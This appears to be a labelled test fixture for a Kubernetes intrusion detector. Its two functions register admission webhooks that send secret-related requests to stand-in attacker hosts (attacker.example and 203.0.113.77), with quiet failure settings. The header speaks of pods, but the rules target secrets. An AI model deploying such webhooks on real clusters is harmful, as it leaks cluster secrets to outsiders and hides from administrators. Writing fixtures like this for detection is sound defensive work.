# shellcheck shell=bash disable=SC2154
# what: an admission webhook outside of the cluster sees and changes every pod.
# label: malicious
# expects: [admission-webhook-written]
# allows: [api-called-by-script]
develop() {
    given <<'Y' | intruder apply -f -
apiVersion: admissionregistration.k8s.io/v1
kind: MutatingWebhookConfiguration
metadata: {name: pod-defaults}
webhooks:
  - name: pods.attacker.example
    clientConfig: {url: "https://attacker.example/mutate"}
    rules: [{apiGroups: [""], apiVersions: [v1], operations: [CREATE], resources: [secrets]}]
    failurePolicy: Ignore
    timeoutSeconds: 1
    sideEffects: None
    admissionReviewVersions: [v1]
    objectSelector: {matchLabels: {never: "true"}}
Y
}
hold_out() { request POST /apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations '{"metadata":{"name":"audit-copy"},"webhooks":[{"name":"copy.attacker.example","clientConfig":{"url":"https://203.0.113.77:8443/"},"rules":[{"apiGroups":[""],"apiVersions":["v1"],"operations":["*"],"resources":["secrets"]}],"failurePolicy":"Ignore","timeoutSeconds":1,"sideEffects":"None","admissionReviewVersions":["v1"],"objectSelector":{"matchLabels":{"never":"true"}}}]}'; }
